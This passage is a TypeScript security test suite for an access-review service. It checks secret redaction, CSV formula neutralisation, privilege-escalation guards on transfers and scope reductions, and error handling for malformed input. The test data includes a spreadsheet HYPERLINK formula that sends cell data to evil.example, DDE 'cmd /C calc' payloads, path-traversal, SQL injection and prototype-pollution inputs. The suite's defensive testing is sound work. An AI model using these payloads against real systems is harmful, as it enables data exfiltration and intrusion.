    await refused(createCampaign({ actor: admin, db, clock, input: { name: `Review ${GITHUB}` } }), "VALIDATION", "name");
    await refused(
      createCampaign({ actor: admin, db, clock, input: { name: "ok", description: `use ${GITHUB}` } }),
      "VALIDATION",
      "description",
    );
    const res = await call(decisionRoute, `/api/reviews/items/${plain.id}/decision`, {
      as: owner,
      method: "POST",
      body: { decision: "certify", decisionReason: GITHUB },
      params: { id: plain.id },
    });
    expect(res.status).toBe(400);
    expect(res.text).not.toContain(GITHUB);
    // A caller with no right to decide gets the refusal, not a validation echo.
    const stranger = await call(decisionRoute, `/api/reviews/items/${plain.id}/decision`, {
      as: auditor,
      method: "POST",
      body: { decision: "certify", decisionReason: GITHUB },
      params: { id: plain.id },
    });
    expect(stranger.status).toBe(403);
    const audit = JSON.stringify(await db.auditEvent.findMany({ select: { targetLabel: true, reason: true, before: true, after: true } }));
    expect(audit).not.toContain(GITHUB);
    expect(audit).not.toContain("BEGIN PRIVATE KEY");
    expect((await itemRow(plain.id)).decisionReason).toBeNull();
  });

  it("formulas in names and reasons are neutralised in the evidence CSV; the PDF takes hostile text without a 5xx", async () => {
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const { plain, risky, runId, campaignId } = await launch({ name: formula, description: "+cmd|' /C calc'!A0 \u202Egnp.exe" });
    await db.reviewItem.update({ where: { id: plain.id }, data: { name: "@SUM(1+1)*cmd|' /C calc'!A0" } });
    await allowed(
      decideItem({ actor: owner, db, clock, input: { id: plain.id, decision: "certify", decisionReason: "-2+3+cmd|' /C calc'!A0" } }),
    );
    const hostile =
      `=1+1 \u0000?`.replace("\u0000", "") + " ‮‭ 😀 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 ".repeat(20) + "<script>alert(1)</script> %PDF-1.7 endobj ) \\ (";
    await allowed(
      decideItem({
        actor: owner,
        db,
        clock,
        input: { id: risky.id, decision: "suspend", decisionReason: hostile.slice(0, 1000) },
      }),
    );
    expect((await db.reviewCampaign.findUniqueOrThrow({ where: { id: campaignId } })).name).toBe(formula);
    const csv = await call(evidenceRoute, `/api/reviews/runs/${runId}/evidence?format=csv`, { as: auditor, params: { id: runId } });
    expect(csv.status).toBe(200);
    // Every cell: never starting with a formula character (quoted cells looked at inside their quotes).
    const cells = csv.text.match(/(?<=^|,)("(?:[^"]|"")*"|[^,\n]*)/gm) ?? [];
    const starts = cells.map((c) => (c.startsWith('"') ? c.slice(1) : c)).filter((c) => /^[=+\-@\t\r]/.test(c));
    expect(starts).toEqual([]);
    expect(csv.text).toContain(`'=HYPERLINK`);
    expect(csv.text).toContain(`'@SUM`);
    expect(csv.text).toContain(`'-2+3`);
    const pdf = await call(evidenceRoute, `/api/reviews/runs/${runId}/evidence?format=pdf`, { as: auditor, params: { id: runId } });
    expect(pdf.status).toBe(200);
    expect(new TextDecoder().decode(pdf.bytes.slice(0, 5))).toBe("%PDF-");
    expect(new TextDecoder().decode(pdf.bytes.slice(-8))).toContain("%%EOF");
    // The file name carries nothing of the hostile name but letters, digits and dashes.
    expect(pdf.headers.get("content-disposition")).toMatch(/^attachment; filename="review-evidence-[A-Za-z0-9-]+\.pdf"$/);
  });
});

describe("decisions that would give more than they take", () => {
  it("transfer only to someone who may own: never an auditor, a deactivated or unknown user, or the current owner", async () => {
    const { plain } = await launch();
    for (const transferToId of [auditor.userId, gone.userId, crypto.randomUUID(), owner.userId])
      await refused(
        decideItem({ actor: owner, db, clock, input: { id: plain.id, decision: "transfer", transferToId, decisionReason: "Moved teams" } }),
        "VALIDATION",
        "transferToId",
      );
    expect((await itemRow(plain.id)).decision).toBeNull();
    for (const toUserId of [auditor.userId, gone.userId, crypto.randomUUID(), owner.userId])
      await refused(reassignItem({ actor: owner, db, clock, input: { id: plain.id, toUserId } }), "VALIDATION", "toUserId");
    expect((await itemRow(plain.id)).reviewerId).toBe(owner.userId);
  });

  it("a service token's identity: its sponsor already owns it; a transfer to a person who later loses the right is not applied", async () => {
    tagNo += 1;
    const created = await createServiceToken(deps)({
      actor: admin,
      db,
      clock,
      input: { name: "deployer", purpose: "Deploys", kind: "service", ownerId: owner.userId, scopes: ["registry.read"] },
    });
    const identityId = created.token.identityId!;
    const tag = `atk9-tok-${tagNo}`;
    await db.identity.update({ where: { id: identityId }, data: { tags: { push: tag } } });
    const { runId } = await launchTagged(db, clock, admin, tag);
    const item = await db.reviewItem.findFirstOrThrow({ where: { runId, identityId } });
    await refused(
      decideItem({ actor: owner, db, clock, input: { id: item.id, decision: "transfer", transferToId: owner.userId } }),
      "VALIDATION",
      "transferToId",
    );
    const heir = await makeUser(db, ["member"]);
    await allowed(
      decideItem({
        actor: owner,
        db,
        clock,
        input: { id: item.id, decision: "transfer", transferToId: heir.userId, decisionReason: "Moved to the data team, who run it now" },
      }),
    );
    await db.user.update({ where: { id: heir.userId }, data: { status: "deactivated" } });
    await allowed(closeRun({ actor: admin, db, clock, input: { runId } }));
    expect(await db.identity.findUniqueOrThrow({ where: { id: identityId } })).toMatchObject({ ownerId: owner.userId });
    expect(await db.reviewItem.findUniqueOrThrow({ where: { id: item.id } })).toMatchObject({ outcome: "kept_flagged" });
  });

  it("keep_until never lengthens an expiry; a reduce never raises a level or moves a non-production scope", async () => {
    const { plain, risky } = await launch();
    const expires = risky.credentialExpiresAt!;
    const later = new Date(expires.getTime() + DAY).toISOString();
    await refused(
      decideItem({ actor: owner, db, clock, input: { id: risky.id, decision: "keep_until", keepUntil: later, decisionReason: "needed" } }),
      "VALIDATION",
      "keepUntil",
    );
    const bulk = await allowed(
      bulkDecide({
        actor: owner,
        db,
        clock,
        input: { ids: [plain.id, risky.id], decision: "keep_until", keepUntil: later, decisionReason: "needed" },
      }),
    );
    expect(bulk).toMatchObject({ decided: 0, skipped: 2 });
    expect((await itemRow(risky.id)).keepUntil).toBeNull();
    const reduce = (id: string, extra: Record<string, unknown>) =>
      decideItem({
        actor: owner,
        db,
        clock,
        input: { id: risky.id, decision: "certify", decisionReason: "ok", scopes: [{ id, decision: "reduce", ...extra }] },
      });
    await refused(reduce(scopeOf(risky, "ledger").id, { reduceToLevel: "write" }), "VALIDATION", "scopes.0.reduceToLevel");
    await refused(reduce(scopeOf(risky, "reports").id, { reduceToLevel: "read" }), "VALIDATION", "scopes.0.reduceToLevel");
    await refused(reduce(scopeOf(risky, "reports").id, { reduceToLevel: "admin" }), "VALIDATION");
    await refused(
      reduce(scopeOf(risky, "reports").id, { reduceToEnvironment: "development" }),
      "VALIDATION",
      "scopes.0.reduceToEnvironment",
    );
    await refused(reduce(scopeOf(risky, "ledger").id, { reduceToEnvironment: "production" }), "VALIDATION");
    await refused(reduce(scopeOf(risky, "ledger").id, {}), "VALIDATION", "scopes.0.reduceToLevel");
    expect((await itemRow(risky.id)).decision).toBeNull();
  });

  it("keep_until is applied as a shortening only, even when the registry's expiry moved earlier after the launch", async () => {
    const { risky, runId } = await launch();
    const credential = await db.credential.findFirstOrThrow({ where: { identityId: risky.identityId } });
    const sooner = new Date(clock.now().getTime() + 10 * DAY);
    await db.credential.update({ where: { id: credential.id }, data: { expiresAt: sooner } });
    const keepUntil = new Date(clock.now().getTime() + 50 * DAY).toISOString();
    await allowed(
      decideItem({ actor: owner, db, clock, input: { id: risky.id, decision: "keep_until", keepUntil, decisionReason: "needed" } }),
    );
    await allowed(closeRun({ actor: admin, db, clock, input: { runId } }));
    expect((await db.credential.findUniqueOrThrow({ where: { id: credential.id } })).expiresAt).toEqual(sooner);
  });

  // Found by the attacker's pass: a "reduce" was checked against the launch snapshot's level only, so a scope the
  // registry lowered after the launch was RAISED at close. apply-plan.ts now narrows the grant as it is at close.
  it("a reduce never raises a scope that the registry lowered after the launch", async () => {
    const { risky, runId } = await launch();
    const admin_ = scopeOf(risky, "payments-db");
    await changeEntitlement({ actor: owner, db, clock, input: { entitlementId: admin_.entitlementId!, level: "read" } });
    await allowed(
      decideItem({
        actor: owner,
        db,
        clock,
        input: {
          id: risky.id,
          decision: "certify",
          decisionReason: "keep",
          scopes: [{ id: admin_.id, decision: "reduce", reduceToLevel: "write" }],
        },
      }),
    );
    await allowed(closeRun({ actor: admin, db, clock, input: { runId } }));
    expect((await db.entitlement.findUniqueOrThrow({ where: { id: admin_.entitlementId! } })).level).toBe("read");
  });
});

describe("caller mistakes are 4xx, never 5xx, on every review route", () => {
  it("malformed ids, wrong types, huge arrays and broken bodies", async () => {
    const { plain, runId, campaignId } = await launch();
    const badIds = [
      "not-a-uuid",
      "00000000-0000-0000-0000-00000000000g",
      "%E0%A4%A",
      "../../etc/passwd",
      "' OR 1=1 --",
      "🙂",
      "x".repeat(5000),
      crypto.randomUUID(),
    ];
    const bodies: (string | undefined)[] = [
      undefined,
      "",
      "null",
      "[]",
      "[1,2,3]",
      '"text"',
      "42",
      "{",
      '{"decision": {"$ne": null}}',
      JSON.stringify({ decision: ["certify"], ids: "all", scopes: "all", status: 5, reason: { x: 1 }, toUserId: 5 }),
      JSON.stringify({ decision: "certify", ids: Array.from({ length: 100_000 }, () => crypto.randomUUID()) }),
      JSON.stringify({
        decision: "certify",
        ids: [plain.id],
        scopes: Array.from({ length: 5_000 }, () => ({ id: plain.id, decision: "keep" })),
      }),
      JSON.stringify({ decision: "keep_until", keepUntil: "+275760-09-13T00:00:00.001Z" }),
      JSON.stringify({ decision: "rotate_by", rotateBy: "2026-02-30" }),
      JSON.stringify({ decision: "certify", decisionReason: "a\u0000b", ids: [plain.id] }),
      JSON.stringify({ decision: "certify", decisionReason: "\ud800", ids: [plain.id] }),
      JSON.stringify({ decision: "certify", decisionReason: "x".repeat(1_000_001), ids: [plain.id] }),
      JSON.stringify({ name: "x", durationDays: 1e308, reminderDays: [-1, "a", null], scope: { tag: ["a"], owner: "me" } }),
      JSON.stringify({ campaign: { name: "x", scope: "everything", durationDays: "NaN" } }),
      JSON.stringify({ expectedVersion: "9".repeat(400), name: 5 }),
      JSON.stringify({ __proto__: { admin: true }, constructor: { prototype: { x: 1 } }, decision: "certify" }),
    ];
    const routes: [RouteModule, string, string, (id: string) => Record<string, string>][] = [
      [decisionRoute, "POST", "/api/reviews/items/:id/decision", (id) => ({ id })],
      [reassignRoute, "POST", "/api/reviews/items/:id/reassign", (id) => ({ id })],
      [remediationRoute, "POST", "/api/reviews/items/:id/remediation", (id) => ({ id })],
      [rollbackRoute, "POST", "/api/reviews/items/:id/rollback", (id) => ({ id })],
      [bulkRoute, "POST", "/api/reviews/items/bulk-decision", () => ({})],
      [campaigns, "POST", "/api/reviews/campaigns", () => ({})],
      [previewRoute, "POST", "/api/reviews/campaigns/preview", () => ({})],
      [campaignById, "PATCH", "/api/reviews/campaigns/:id", (id) => ({ id })],
      [launchRoute, "POST", "/api/reviews/campaigns/:id/launch", (id) => ({ id })],
      [closeRoute, "POST", "/api/reviews/runs/:id/close", (id) => ({ id })],
    ];
    const failures: string[] = [];
    for (const who of [owner, admin]) {
      for (const [mod, method, template, params] of routes) {
        for (const id of badIds) {
          const res = await call(mod, template.replace(":id", encodeURIComponent(id)), {
            as: who,
            method,
            rawBody: '{"decision":"certify"}',
            params: params(id),
          });
          if (res.status >= 500 || res.status < 400)
            failures.push(`${who.email} ${method} ${template} id=${id.slice(0, 20)}: ${res.status}`);
        }
        for (const rawBody of bodies) {
          const useId = template.includes("campaigns/:id") ? campaignId : template.includes("runs/:id") ? crypto.randomUUID() : plain.id;
          const res = await call(mod, template.replace(":id", useId), { as: who, method, rawBody, params: params(useId) });
          if (res.status >= 500)
            failures.push(
              `${who.email} ${method} ${template} body=${(rawBody ?? "none").slice(0, 40)}: ${res.status} ${res.text.slice(0, 200)}`,
            );
        }
      }
    }
    const gets: [RouteModule, string, (id: string) => Record<string, string>][] = [
      [itemRoute, "/api/reviews/items/:id", (id) => ({ id })],
      [runRoute, "/api/reviews/runs/:id", (id) => ({ id })],
      [evidenceRoute, "/api/reviews/runs/:id/evidence?format=docx", (id) => ({ id })],
      [evidenceRoute, "/api/reviews/runs/:id/evidence?format=pdf&format=csv", (id) => ({ id })],
      [campaignById, "/api/reviews/campaigns/:id", (id) => ({ id })],
    ];
    for (const who of [owner, auditor, admin]) {
      for (const [mod, template, params] of gets)
        for (const id of [...badIds, runId]) {
          const res = await call(mod, template.replace(":id", encodeURIComponent(id)), { as: who, params: params(id) });
          if (res.status >= 500) failures.push(`${who.email} GET ${template} id=${id.slice(0, 20)}: ${res.status}`);
        }
      for (const query of [
        "page=-1",
        "page=1e308",
        "pageSize=0",
        "pageSize=999999",
        "sort=__proto__",
        "dir=sideways",
        "status[]=open",
        "run=not-a-uuid",
        "q=%00",
        `q=${"%25".repeat(300)}`,
        "risk=everything&environment=mars&kind=%27",
        "runId=x&status=maybe",
        "recurrence=hourly",
      ]) {
        for (const [mod, path] of [
          [myItems, "/api/reviews/items"],
          [remediationList, "/api/reviews/remediation"],
          [campaigns, "/api/reviews/campaigns"],
        ] as const) {
          const res = await call(mod, `${path}?${query}`, { as: who });
          if (res.status >= 500) failures.push(`${who.email} GET ${path}?${query}: ${res.status}`);
        }
      }
    }
    expect(failures).toEqual([]);
    // Nothing any of that sent closed the run or handed the item on.
    expect(await itemRow(plain.id)).toMatchObject({ reviewerId: owner.userId });
    expect(await db.reviewRun.findUniqueOrThrow({ where: { id: runId } })).toMatchObject({ status: "open" });
  }, 240_000);
});
